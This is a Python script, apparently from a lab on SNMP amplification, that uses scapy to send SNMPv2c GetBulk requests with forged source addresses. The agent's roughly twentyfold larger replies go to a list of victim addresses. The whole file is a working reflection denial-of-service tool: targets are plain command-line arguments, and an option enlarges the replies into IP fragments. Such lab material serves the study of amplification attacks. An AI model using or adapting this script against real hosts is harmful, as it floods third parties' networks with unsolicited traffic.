#!/usr/bin/env python3
"""Spoofed SNMP GetBulk requests for ntpsleuth's snmp-amplifier lab.

  spoof-getbulk  SNMPv2c GetBulkRequests (community "public", 40
                 repetitions from the system subtree) carrying a victim's
                 address as their source, round-robin over the victims,
                 each from a new random source port, to one SNMP agent

The agent is a real net-snmp snmpd on the local host; its answers (about
1.4 KB for 70 bytes) go to the victims, whose kernels refuse them with
ICMP port unreachable.  scapy builds the packets; bounded by a count and
a time limit.
"""

import argparse
import random
import sys
import time

from scapy.all import IP, UDP, SNMP, SNMPbulk, SNMPvarbind, ASN1_OID, conf, send


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("spoof-getbulk")
    s.add_argument("--src", required=True, help="victim addresses, comma-separated")
    s.add_argument("--dst", required=True, help="the SNMP agent")
    s.add_argument("--count", type=int, default=100)
    s.add_argument("--rate", type=float, default=50.0, help="requests a second")
    s.add_argument("--secs", type=float, default=20.0, help="time limit")
    s.add_argument("--repetitions", type=int, default=40,
                   help="max-repetitions: 40 makes about 1.4 KB answers, 120 answers in IP fragments")
    a = ap.parse_args()
    conf.verb = 0
    victims = a.src.split(",")
    rnd = random.Random(20261203)
    end = time.monotonic() + a.secs
    sent = 0
    while sent < a.count and time.monotonic() < end:
        src = victims[sent % len(victims)]
        req = SNMP(version=1, community="public",
                   PDU=SNMPbulk(id=rnd.randint(1, 2**31 - 1), non_repeaters=0,
                                max_repetitions=a.repetitions,
                                varbindlist=[SNMPvarbind(oid=ASN1_OID("1.3.6.1.2.1.1"))]))
        send(IP(src=src, dst=a.dst) / UDP(sport=rnd.randint(20000, 60999), dport=161) / req)
        sent += 1
        time.sleep(1.0 / a.rate)
    print("sent", sent, "GetBulk requests", flush=True)
    return 0 if sent == a.count else 1


if __name__ == "__main__":
    sys.exit(main())
